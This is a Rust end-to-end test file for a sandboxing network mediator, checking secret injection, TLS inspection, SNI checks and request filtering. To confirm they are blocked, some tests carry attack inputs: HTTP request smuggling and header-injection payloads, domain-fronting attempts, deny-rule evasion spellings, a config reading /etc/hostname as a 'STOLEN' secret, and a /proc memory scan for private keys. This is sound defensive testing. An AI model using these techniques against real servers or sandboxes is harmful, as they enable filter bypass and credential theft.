#[test]
fn secrets_from_the_user_config_work_and_a_project_file_may_not_define_them() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("config");
        let api = ca.serve(&["api.test"]);
        let secret = format!("cfg-{}", unique());
        let invoker = runner.invoker();
        let xdg = TempDir::owned_by("xdg", &invoker, 0o700);
        let config = xdg.write(
            "vectraguard/config.toml",
            format!(
                "network = \"allow\"\n\
                 add_hosts = [\"api.test:127.0.0.1\"]\n\
                 network_rules = [\"allow GET https://api.test:{}/status/**\"]\n\
                 upstream_ca = [\"{}\"]\n\
                 \n\
                 [secrets.TOKEN]\n\
                 source = \"env:VG_E2E_TOKEN\"\n\
                 hosts = [\"api.test\"]\n",
                api.port,
                ca.arg()
            ),
        );
        chown_to(&xdg.join("vectraguard"), &invoker);
        chown_to(&config, &invoker);
        let a = api.url("api.test", "");
        let script = format!(
            "curl -sS -o /dev/null -w 'bearer=%{{http_code}}\\n' -H \"Authorization: Bearer $TOKEN\" {a}/status/200\n\
             curl -sS -o /dev/null -w 'post=%{{http_code}}\\n' -X POST {a}/status/200\n"
        );
        let out = bash(runner, &ws, &home, &[], &script)
            .env("XDG_CONFIG_HOME", &xdg.arg(""))
            .env("VG_E2E_TOKEN", &secret)
            .run();
        out.assert_success();
        assert_eq!(out.field("bearer"), "200", "{out}");
        assert_eq!(out.field("post"), "403", "{out}");
        let seen = api.seen();
        assert_eq!(seen.len(), 1, "{seen:#?}");
        assert_eq!(
            seen[0]["headers"]["authorization"],
            format!("Bearer {secret}")
        );
        assert_nowhere(&secret, &out, &home);

        // A project file is written by whoever works in the project, the sandbox too.
        let project = ws.write(
            "vectraguard.toml",
            "[secrets.STOLEN]\nsource = \"file:/etc/hostname\"\nhosts = [\"api.test\"]\n",
        );
        let out = bash(runner, &ws, &home, &[], "touch ran")
            .env("XDG_CONFIG_HOME", &xdg.arg(""))
            .env("VG_E2E_TOKEN", &secret)
            .run();
        out.assert_code(USAGE)
            .assert_stderr_contains(&project.display().to_string())
            .assert_stderr_contains("secrets")
            .assert_stderr_contains("project file");
        assert!(!ws.exists("ran"), "{out}");
    });
}

#[test]
fn malformed_rules_and_secret_specs_are_refused_with_a_clear_error() {
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let garbage = ws.write("garbage.pem", "not a certificate\n");
        let missing_ca = format!("/nonexistent/ca-{}.pem", unique());
        let rule = "GET https://api.test/**";
        let cases: Vec<(Vec<&str>, &str)> = vec![
            (vec!["--allow", "GET https://"], "GET https://"),
            (vec!["--allow", "get https://api.test/x"], "GET"),
            (vec!["--allow", "GET,,HEAD https://api.test/x"], "GET,,HEAD"),
            (vec!["--allow", "GET ftp://api.test/x"], "ftp"),
            (vec!["--allow", "GET https://api.test:99999/x"], "99999"),
            (vec!["--allow", "GET https://api.test/a?b=1"], "/a?b=1"),
            (
                vec!["--allow", "GET https://user@api.test/x"],
                "user@api.test",
            ),
            (vec!["--allow", "GET https://api.test/x extra"], "extra"),
            (vec!["--deny", "POST https:///x"], "https:///x"),
            (vec!["--allow", rule, "--secret", "TOKEN"], "TOKEN"),
            (
                vec!["--allow", rule, "--secret", "TOKEN=env:X"],
                "TOKEN=env:X",
            ),
            (
                vec!["--allow", rule, "--secret", "TOKEN=vault:x@api.test"],
                "vault",
            ),
            (
                vec!["--allow", rule, "--secret", "1TOKEN=env:X@api.test"],
                "1TOKEN",
            ),
            (
                vec!["--allow", rule, "--secret", "PATH=env:X@api.test"],
                "PATH",
            ),
            (
                vec!["--allow", rule, "--secret", "SSL_CERT_FILE=env:X@api.test"],
                "SSL_CERT_FILE",
            ),
            (vec!["--allow", rule, "--secret", "TOKEN=env:X@"], "TOKEN"),
            (
                vec!["--allow", rule, "--secret", "TOKEN=env:X@https://api.test"],
                "https://api.test",
            ),
            (
                vec!["--allow", rule, "--secret", "TOKEN=env:X@api.test:443"],
                "api.test:443",
            ),
            (
                vec!["--allow", rule, "--secret", "TOKEN=env:@api.test"],
                "env:",
            ),
            // A secret for a host no method and path rule covers would never be sent.
            (
                vec![
                    "--allow",
                    "other.test",
                    "--secret",
                    "TOKEN=env:HOME@other.test",
                ],
                "other.test",
            ),
            (
                vec![
                    "--allow",
                    rule,
                    "--secret",
                    "T=env:HOME@api.test",
                    "--secret",
                    "T=env:HOME@api.test",
                ],
                "--secret T",
            ),
            (
                vec![
                    "--allow",
                    rule,
                    "--tls-passthrough",
                    "api.test",
                    "--secret",
                    "T=env:HOME@api.test",
                ],
                "--tls-passthrough",
            ),
            (
                vec!["--allow", rule, "--upstream-ca", &missing_ca],
                &missing_ca,
            ),
            (
                vec!["--allow", rule, "--upstream-ca", garbage.to_str().unwrap()],
                "garbage.pem",
            ),
            (
                vec!["--allow", rule, "--tls-passthrough", "https://api.test"],
                "https://api.test",
            ),
            (
                vec!["--allow", rule, "--tls-passthrough", "bad..name"],
                "bad..name",
            ),
            (
                vec!["--network", "none", "--secret", "T=env:HOME@api.test"],
                "--network none",
            ),
        ];
        for (options, needle) in &cases {
            let out = Vg::sandbox(runner, &ws, options, &["touch", "ran"])
                .records_home(&home)
                .run();
            out.assert_code(USAGE).assert_stderr_contains(needle);
            assert!(!ws.exists("ran"), "{out}");
            assert!(
                out.stderr.lines().count() <= 6,
                "not a clear, short error\n{out}"
            );
        }
        assert!(home.sessions().is_empty(), "a refused run left a record");
    });
}

#[test]
fn a_missing_or_failing_secret_source_stops_the_run_before_it_starts() {
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let leaked = format!("half-printed-{}", unique());
        let unset = format!("VG_E2E_UNSET_{}", unique());
        let nonexistent = format!("/nonexistent/token-{}", unique());
        let mut sources = vec![
            format!("env:{unset}"),
            format!("file:{nonexistent}"),
            "cmd:false".to_owned(),
            format!("cmd:echo {leaked}; exit 3"),
            "cmd:true".to_owned(),
            format!("file:{}", ws.write("empty", "").display()),
        ];
        // A file the invoker cannot read (root's, in a folder only root may enter) when
        // the invoker is not root.
        let root_only = TempDir::owned_by("root-secret", &Runner::Root.invoker(), 0o700);
        if is_root() && runner == Runner::Unprivileged {
            let path = root_only.join("token");
            std::fs::write(&path, format!("{leaked}\n")).unwrap();
            sources.push(format!("file:{}", path.display()));
        }
        for source in &sources {
            let spec = format!("API_TOKEN={source}@api.test");
            let out = Vg::sandbox(
                runner,
                &ws,
                &["--allow", "GET https://api.test/**", "--secret", &spec],
                &["touch", "ran"],
            )
            .records_home(&home)
            .run();
            out.assert_code(USAGE).assert_stderr_contains("API_TOKEN");
            assert!(!ws.exists("ran"), "the sandbox ran\n{out}");
            assert_nowhere(&leaked, &out, &home);
        }
    });
}

#[test]
fn a_secret_with_a_line_break_is_refused_at_start_and_a_trailing_newline_is_not_part_of_it() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("crlf");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/**", api.port)],
        );
        let script = format!(
            "touch ran; echo \"len=${{#TOKEN}}\"\n\
             curl -sS -o /dev/null -w 'status=%{{http_code}}\\n' -H \"Authorization: Bearer $TOKEN\" {}\n",
            api.url("api.test", "/status/200")
        );
        let injected = format!("X-Injected-{}", unique());
        for value in [
            format!("abc\r\n{injected}: yes"),
            format!("abc\n{injected}: yes"),
            format!("abc\r{injected}"),
            format!("abc\0{injected}"),
        ] {
            let file = ws.write("token", &value);
            let mut opts = options.clone();
            opts.push("--secret".into());
            opts.push(format!("TOKEN=file:{}@api.test", file.display()));
            let out = bash(runner, &ws, &home, &opts, &script).run();
            out.assert_code(USAGE).assert_stderr_contains("TOKEN");
            assert!(!ws.exists("ran"), "{out}");
            assert!(
                !out.stderr.contains(&injected),
                "the value is quoted\n{out}"
            );
        }
        assert!(api.seen().is_empty());

        // `echo token > file`, `pass show x`: the newline ends the output, not the
        // token.
        let secret = format!("tok-{}", unique());
        let file = ws.write("token", format!("{secret}\n"));
        for source in [
            format!("file:{}", file.display()),
            format!("cmd:echo {secret}"),
        ] {
            let mut opts = options.clone();
            opts.push("--secret".into());
            opts.push(format!("TOKEN={source}@api.test"));
            let out = bash(runner, &ws, &home, &opts, &script).run();
            out.assert_success();
            assert_eq!(
                out.field("len"),
                secret.len().to_string(),
                "{source}\n{out}"
            );
            assert_eq!(out.field("status"), "200", "{source}\n{out}");
            let seen = api.seen();
            assert_eq!(
                seen.last().unwrap()["headers"]["authorization"],
                format!("Bearer {secret}"),
                "{source}"
            );
            std::fs::remove_file(ws.join("ran")).unwrap();
        }
    });
}

// ---------------------------------------------------------------------------------------
// Passthrough, and plain rules' SNI check.

#[test]
fn a_passthrough_host_keeps_its_own_certificate_and_an_inspected_one_does_not() {
    if !require_tools(&[CURL, PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let ca = TestCa::new("passthrough");
        ws.write("testca.pem", ca.pem());
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/echo/**", api.port)],
        );
        let a = api.url("api.test", "");
        // A client that trusts only the server's own CA (it pins it), one that trusts
        // only what the sandbox trusts, and Python with only the server's CA.
        let script = format!(
            r#"curl -sS --cacert testca.pem -o /dev/null -w 'pinned=%{{http_code}}\n' {a}/echo/pinned || echo "pinned=exit $?"
curl -sS --cacert testca.pem -o /dev/null -w 'pinned_post=%{{http_code}}\n' -X POST {a}/echo/post || echo "pinned_post=exit $?"
curl -sS -o /dev/null -w 'default=%{{http_code}}\n' {a}/echo/default || echo "default=exit $?"
{PYTHON} -c '
import ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile="testca.pem")
try:
    urllib.request.urlopen(sys.argv[1], context=ctx, timeout=30)
    print("python=ok")
except Exception as e:
    print("python=" + type(getattr(e, "reason", e)).__name__)
' {a}/echo/python
"#
        );

        // Inspected: the sandbox sees the session CA's certificate.
        let home = RecordsHome::new(runner);
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("pinned"), "exit 60", "{out}");
        assert_eq!(out.field("default"), "200", "{out}");
        assert_eq!(out.field("python"), "SSLCertVerificationError", "{out}");
        let tls: Vec<Value> = network_events(&home)
            .into_iter()
            .filter(|e| e["event"] == "tls")
            .collect();
        assert!(
            tls.iter()
                .any(|e| e["host"] == "api.test" && e["sni"] == "api.test"),
            "the refused handshakes are not recorded: {tls:#?}"
        );
        assert_eq!(api.seen_under("/echo/default").len(), 1);
        assert!(api.seen_under("/echo/pinned").is_empty());

        // Passed through: the server's own certificate, untouched, and no rule applies
        // to what is said (the mediator cannot read it).
        let mut passthrough = options.clone();
        passthrough.extend(["--tls-passthrough".to_owned(), "api.test".to_owned()]);
        let home = RecordsHome::new(runner);
        let out = bash(runner, &ws, &home, &passthrough, &script).run();
        out.assert_success();
        assert_eq!(out.field("pinned"), "200", "{out}");
        assert_eq!(out.field("pinned_post"), "200", "{out}");
        assert_eq!(out.field("default"), "exit 60", "{out}");
        assert_eq!(out.field("python"), "ok", "{out}");
        assert_eq!(api.seen_under("/echo/post").len(), 1);
        assert!(http_events(&home).is_empty(), "{:#?}", http_events(&home));
        let events = network_events(&home);
        assert!(
            events
                .iter()
                .any(|e| e["event"] == "close" && e["name"] == "api.test"),
            "{events:#?}"
        );
    });
}

#[test]
fn a_plain_rule_passes_tls_through_but_cuts_a_fronted_server_name() {
    if !require_tools(&[CURL, OPENSSL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("fronting");
        ws.write("testca.pem", ca.pem());
        // The server's certificate names other.test too: only the mediator can stop it.
        let api = ca.serve(&["api.test", "other.test", "evil.test"]);
        let p = api.port;
        let mut options = pinned(&ca, &["api.test"]);
        allowing(&mut options, &[format!("api.test:{p}")]);
        let script = format!(
            r#"curl -sS --cacert testca.pem -o /dev/null -w 'direct=%{{http_code}}\n' https://api.test:{p}/echo/direct || echo "direct=exit $?"
curl -sS --cacert testca.pem --connect-to other.test:{p}:api.test:{p} -o /dev/null -w 'fronted=%{{http_code}}\n' https://other.test:{p}/echo/fronted || echo "fronted=exit $?"
echo | timeout 20 openssl s_client -connect api.test:{p} -servername evil.test -CAfile testca.pem >/dev/null 2>&1; echo "openssl=exit $?"
"#
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("direct"), "200", "{out}");
        assert!(out.field("fronted").starts_with("exit "), "{out}");
        assert_ne!(out.field("openssl"), "exit 0", "{out}");
        // The server saw the real client's handshake, and never the fronted names.
        let handshakes = api.handshakes();
        assert!(
            handshakes
                .iter()
                .all(|h| h.sni.as_deref() == Some("api.test")),
            "{handshakes:?}"
        );
        assert_eq!(api.seen().len(), 1, "{:#?}", api.seen());
        assert!(
            http_events(&home).is_empty(),
            "a plain rule does not inspect"
        );
        let events = network_events(&home);
        for name in ["other.test", "evil.test"] {
            assert!(
                events.iter().any(|e| {
                    e["event"] == "close"
                        && e["error"].as_str().is_some_and(|err| err.contains(name))
                }),
                "no cut connection names {name}: {events:#?}"
            );
        }
    });
}

#[test]
fn host_and_server_name_mismatches_on_an_inspected_host_are_refused() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("mismatch");
        let api = ca.serve(&["api.test", "other.test"]);
        let other = ca.serve(&["other.test"]);
        let p = api.port;
        let mut options = pinned(&ca, &["api.test", "other.test"]);
        allowing(
            &mut options,
            &[
                format!("GET https://api.test:{p}/echo/**"),
                format!("GET https://other.test:{}/echo/**", other.port),
            ],
        );
        let status = |label: &str, args: &str| {
            format!(
                "curl -sS -o /dev/null -w '{label}=%{{http_code}}\\n' {args} || echo \"{label}=exit $?\"\n"
            )
        };
        let script = [
            status("ok", &format!("https://api.test:{p}/echo/ok")),
            status(
                "host",
                &format!("--http1.1 -H 'Host: other.test:{p}' https://api.test:{p}/echo/host"),
            ),
            status(
                "authority",
                &format!("--http2 -H 'Host: other.test:{p}' https://api.test:{p}/echo/authority"),
            ),
            status(
                "sni",
                &format!(
                    "--connect-to other.test:{p}:api.test:{p} https://other.test:{p}/echo/sni"
                ),
            ),
        ]
        .concat();
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        assert_eq!(out.field("ok"), "200", "{out}");
        for label in ["host", "authority", "sni"] {
            let v = out.field(label);
            assert!(
                v == "403" || v == "421" || v.starts_with("exit "),
                "{label}: {v}\n{out}"
            );
        }
        let seen = api.seen();
        assert_eq!(seen.len(), 1, "{seen:#?}");
        assert_eq!(seen[0]["path"], "/echo/ok");
        assert!(other.seen().is_empty());
    });
}

// ---------------------------------------------------------------------------------------
// Upstream failures.

#[test]
fn an_unreachable_upstream_and_one_with_an_untrusted_certificate_are_recorded_502s() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("trusted");
        let rogue = TestCa::new("rogue").serve(&["bad.test"]);
        let down = free_port();
        let mut options = pinned(&ca, &["down.test", "bad.test"]);
        allowing(
            &mut options,
            &[
                format!("GET https://down.test:{down}/**"),
                format!("GET https://bad.test:{}/**", rogue.port),
            ],
        );
        let timed = |label: &str, url: &str| {
            format!(
                "s=$(date +%s%N); curl -sS --max-time 40 -o {label}.body -w '{label}=%{{http_code}}\\n' {url} || echo '{label}=failed'; \
                 echo \"{label}.ms=$(( ($(date +%s%N) - s) / 1000000 ))\"; echo \"{label}.body=$(head -c 400 {label}.body | tr '\\n' ' ')\"\n"
            )
        };
        let script = [
            timed("down", &format!("https://down.test:{down}/x")),
            timed("bad", &rogue.url("bad.test", "/echo/x")),
        ]
        .concat();
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        for label in ["down", "bad"] {
            assert_eq!(out.field(label), "502", "{label}\n{out}");
            let ms: u64 = out.field(&format!("{label}.ms")).parse().unwrap();
            assert!(ms < 20_000, "{label} took {ms} ms\n{out}");
        }
        assert!(
            rogue.seen().is_empty(),
            "the mediator spoke to an untrusted server"
        );
        assert!(
            wait_until(Duration::from_secs(5), || !rogue
                .handshake_errors()
                .is_empty()),
            "the untrusted server saw no refused handshake"
        );
        let events = http_events(&home);
        let down_event = exchange(&events, "GET", "/x");
        assert_eq!(down_event["status"], 502, "{down_event}");
        assert!(down_event["error"].is_string(), "{down_event}");
        let bad = exchange(&events, "GET", "/echo/x");
        assert_eq!(bad["status"], 502, "{bad}");
        assert_eq!(bad["host"], "bad.test", "{bad}");
        let error = bad["error"].as_str().unwrap_or_default().to_lowercase();
        assert!(
            error.contains("certificate") || error.contains("issuer"),
            "{bad}"
        );
    });
}

// ---------------------------------------------------------------------------------------
// The session CA: what the sandbox trusts, and what it can never get.

#[test]
fn minted_certificates_carry_what_strict_clients_need() {
    if !require_tools(&[OPENSSL, PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("leaf");
        let api = ca.serve(&["api.test"]);
        let p = api.port;
        let mut options = pinned(&ca, &["api.test"]);
        allowing(&mut options, &[format!("GET https://api.test:{p}/echo/**")]);
        let script = format!(
            r#"echo | openssl s_client -connect api.test:{p} -servername api.test 2>/dev/null | openssl x509 -noout -text > leaf.txt
start=$(date -d "$(openssl x509 -noout -startdate -in <(echo | openssl s_client -connect api.test:{p} -servername api.test 2>/dev/null) | cut -d= -f2)" +%s)
echo "past=$(( $(date +%s) - start ))"
echo | openssl s_client -connect api.test:{p} -servername api.test -verify_return_error -x509_strict -CAfile "$SSL_CERT_FILE" 2>&1 | grep -m1 'Verify return code' | sed 's/^ */strict_openssl=/'
{PYTHON} -c '
import socket, ssl, sys
ctx = ssl.create_default_context()
ctx.verify_flags |= ssl.VERIFY_X509_STRICT
s = ctx.wrap_socket(socket.create_connection(("api.test", {p}), timeout=30), server_hostname="api.test")
print("strict_python=" + s.version())
'
cp "$SSL_CERT_FILE" bundle.pem
"#
        );
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        let leaf = ws.read("leaf.txt").unwrap();
        for needle in [
            "X509v3 Subject Key Identifier",
            "X509v3 Authority Key Identifier",
            "DNS:api.test",
        ] {
            assert!(leaf.contains(needle), "the leaf lacks {needle}:\n{leaf}");
        }
        assert!(
            !leaf.contains("Vectra Guard test CA"),
            "not minted by the session:\n{leaf}"
        );
        let past: i64 = out.field("past").parse().unwrap();
        assert!(
            past >= 60,
            "the leaf is valid only from {past} s ago\n{out}"
        );
        assert!(out.field("strict_openssl").contains("0 (ok)"), "{out}");
        assert!(out.field("strict_python").starts_with("TLS"), "{out}");
        // The bundle the sandbox trusts ends with the session CA of the record.
        let meta = session_metadata(&home.only_session());
        let ca_pem = meta["network"]["inspection"]["ca_certificate"]
            .as_str()
            .unwrap_or_else(|| panic!("no CA certificate in the record: {meta:#}"));
        assert!(
            ca_pem.starts_with("-----BEGIN CERTIFICATE-----"),
            "{ca_pem}"
        );
        let bundle = ws.read("bundle.pem").unwrap();
        assert!(
            bundle.contains(ca_pem.trim()),
            "the bundle lacks the session CA"
        );
        assert!(
            bundle.matches("BEGIN CERTIFICATE").count() > 10,
            "the system roots are gone"
        );
    });
}

#[test]
fn the_session_ca_key_is_nowhere_the_sandbox_can_look() {
    if !require_tools(&[CURL, PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("key");
        let api = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        allowing(
            &mut options,
            &[format!("GET https://api.test:{}/echo/**", api.port)],
        );
        // Where a key could have been left: files (trust bundles and what the
        // variables name, /etc, /tmp, home, /run, /var, the workspace), the
        // environment, every visible process's command line, environment and memory.
        let places = "/etc /tmp /run /var /opt /home /root /dev/shm \"$HOME\" \"$PWD\"";
        let scan = format!(
            r#"curl -sS -o /dev/null -w 'warm=%{{http_code}}\n' {url}
for v in {vars}; do f="${{!v}}"; [ -n "$f" ] && grep -lE 'PRIVATE KEY-{{5}}' "$f" 2>/dev/null | sed 's/^/keyfile=/'; done
grep -rlsIE --exclude-dir=proc 'PRIVATE KEY-{{5}}' {places} 2>/dev/null | sort -u | sed 's/^/keyfile=/'
env | grep -cE 'PRIVATE KEY-{{5}}' | sed 's/^/env_keys=/'
{PYTHON} -c '
import os, re
needle = b"PRIVATE" + b" KEY-----"
me = os.getpid()
hits, procs, readable, supervisor = [], 0, 0, []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    procs += 1
    try:
        # Built here, so that no command line holds the word itself.
        if (b"vectra" + b"guard") in os.readlink("/proc/%s/exe" % pid).encode():
            supervisor.append(pid)
        if int(pid) == me:
            continue
        if needle in open("/proc/%s/environ" % pid, "rb").read():
            hits.append(pid + ":environ")
        mem = open("/proc/%s/mem" % pid, "rb")
        readable += 1
        for line in open("/proc/%s/maps" % pid):
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not m:
                continue
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            if end - start > 64 << 20:
                continue
            try:
                mem.seek(start)
                if needle in mem.read(end - start):
                    hits.append(pid + ":mem")
            except OSError:
                pass
    except OSError:
        pass
print("memory_hits=" + ",".join(hits))
print("visible_processes=%d" % procs)
print("memory_readable=%d" % readable)
print("supervisor_visible=" + ",".join(supervisor))
'
"#,
            url = api.url("api.test", "/echo/warm"),
            vars = CA_VARIABLES.join(" "),
        );
        let out = bash(runner, &ws, &home, &options, &scan).run();
        out.assert_success();
        assert_eq!(out.field("warm"), "200", "{out}");
        assert_eq!(out.field("env_keys"), "0", "{out}");
        assert_eq!(out.field("memory_hits"), "", "{out}");
        assert_eq!(out.field("supervisor_visible"), "", "{out}");

        // The same file scan on the host, as the test user, without vectraguard: what
        // the sandbox sees may only be a subset (the host's own keys, if readable).
        let host = Runner::Unprivileged
            .host_command("/bin/bash")
            .arg("-c")
            .arg("grep -rlsIE --exclude-dir=proc 'PRIVATE KEY-{5}' /etc /opt 2>/dev/null | sort -u")
            .output()
            .unwrap();
        let on_host = String::from_utf8_lossy(&host.stdout).into_owned();
        for line in out.lines() {
            if let Some(file) = line.strip_prefix("keyfile=") {
                assert!(
                    on_host.lines().any(|h| h == file),
                    "a private key the host does not show: {file}\n{out}"
                );
            }
        }
        // Nor is it in the records, or anywhere under vectraguard's home.
        for file in files_under(home.path()) {
            let text = std::fs::read(&file).unwrap_or_default();
            assert!(
                !String::from_utf8_lossy(&text).contains("PRIVATE KEY-----"),
                "a private key in {}",
                file.display()
            );
        }
    });
}

// ---------------------------------------------------------------------------------------
// Evading the matcher.

#[test]
fn requests_split_across_packets_pipelined_or_smuggled_are_still_decided() {
    if !require_tools(&[PY]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("split");
        let api = ca.serve(&["api.test"]);
        let p = api.port;
        let mut options = pinned(&ca, &["api.test"]);
        allowing(&mut options, &[format!("GET https://api.test:{p}/echo/**")]);
        let script = format!(
            r#"
import re, socket, ssl, time
H = "api.test:{p}"
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
def conn():
    raw = socket.create_connection(("api.test", {p}), timeout=30)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return ctx.wrap_socket(raw, server_hostname="api.test")
def statuses(s):
    data = b""
    s.settimeout(5)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ssl.SSLError, OSError):
        pass
    return ",".join(re.findall(r"HTTP/1\.1 (\d{{3}})", data.decode(errors="replace"))) or "none"
def slowly(label, request):
    s = conn()
    for i in range(len(request)):
        s.sendall(request[i:i + 1])
        time.sleep(0.005)
    print(label + "=" + statuses(s), flush=True)
def at_once(label, request):
    s = conn()
    s.sendall(request)
    print(label + "=" + statuses(s), flush=True)
req = lambda m, path, extra="": ("%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (m, path, H, extra)).encode()
slowly("split_post", req("POST", "/echo/split", "Content-Length: 0\r\n"))
slowly("split_path", req("GET", "/download?bytes=5"))
slowly("split_ok", req("GET", "/echo/split-ok"))
# Pipelined: an allowed request, then a refused one, in one write.
at_once("pipelined", req("GET", "/echo/p1", "").replace(b"Connection: close\r\n", b"") + req("POST", "/echo/p2", "Content-Length: 0\r\n"))
# A request hidden in the body of another (Content-Length against chunked).
hidden = req("POST", "/echo/smuggled", "Content-Length: 0\r\n")
at_once("clte", ("GET /echo/s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % (H, 5 + len(hidden))).encode() + b"0\r\n\r\n" + hidden)
at_once("tecl", ("GET /echo/s2 HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n" % (H, len(hidden))).encode() + hidden + b"\r\n0\r\n\r\n")
at_once("lower", req("post", "/echo/lower", "Content-Length: 0\r\n"))
"#
        );
        let out = Vg::sandbox(runner, &ws, &strs(&options), &[PYTHON, "-c", &script])
            .records_home(&home)
            .run();
        out.assert_success();
        assert_eq!(out.field("split_post"), "403", "{out}");
        assert_eq!(out.field("split_path"), "403", "{out}");
        assert_eq!(out.field("split_ok"), "200", "{out}");
        let pipelined = out.field("pipelined");
        assert!(pipelined == "200,403" || pipelined == "200", "{out}");
        for label in ["clte", "tecl"] {
            let v = out.field(label);
            assert!(
                !v.contains("200,200"),
                "{label}: a second request got through\n{out}"
            );
        }
        assert_ne!(out.field("lower"), "200", "{out}");
        for request in api.seen() {
            assert_eq!(request["method"], "GET", "{request}");
            let path = request["path"].as_str().unwrap();
            assert!(path.starts_with("/echo/"), "{request}");
        }
        assert!(api.seen_under("/echo/split-ok").len() == 1);
        assert!(api.seen_under("/download").is_empty());
    });
}

/// Red team: a deny rule for a path was passed by spellings servers route alike
/// (`%61dmin`, `//admin`, `admin;x`, `admin%2f`), and one for a method by its lower
/// case; the matcher now sees the path and method as servers do.
#[test]
fn spellings_servers_route_alike_meet_the_same_deny_rules() {
    if !require_tools(&[CURL]) {
        return;
    }
    each_identity(|runner| {
        let ws = Workspace::new();
        let home = RecordsHome::new(runner);
        let ca = TestCa::new("spell");
        let web = ca.serve(&["api.test"]);
        let mut options = pinned(&ca, &["api.test"]);
        for rule in [
            format!("GET https://api.test:{}/echo/admin/**", web.port),
            format!("DELETE https://api.test:{}/**", web.port),
        ] {
            options.push("--deny".to_owned());
            options.push(rule);
        }
        allowing(
            &mut options,
            &[format!("* https://api.test:{}/echo/**", web.port)],
        );
        let code = |method: &str, path: &str| {
            format!(
                "echo \"{method} {path} $(curl -sS --path-as-is -o /dev/null -w '%{{http_code}}' -X {method} '{}')\"\n",
                web.url("api.test", path)
            )
        };
        let script = [
            code("GET", "/echo/ok"),
            code("GET", "/echo/admin/x"),
            code("GET", "/echo/%61dmin/x"),
            code("GET", "/echo//admin/x"),
            code("GET", "/echo/admin;x/y"),
            code("GET", "/echo/admin%2fx"),
            code("delete", "/echo/ok"),
        ]
        .concat();
        let out = bash(runner, &ws, &home, &options, &script).run();
        out.assert_success();
        let lines: Vec<&str> = out.stdout.lines().collect();
        assert_eq!(lines[0], "GET /echo/ok 200", "{out}");
        for line in &lines[1..] {
            assert!(line.ends_with(" 403"), "{line} got through\n{out}");
        }
        assert_eq!(lines.len(), 7, "{out}");
        assert_eq!(
            web.seen().len(),
            1,
            "only the allowed request: {:#?}",
            web.seen()
        );
    });
}
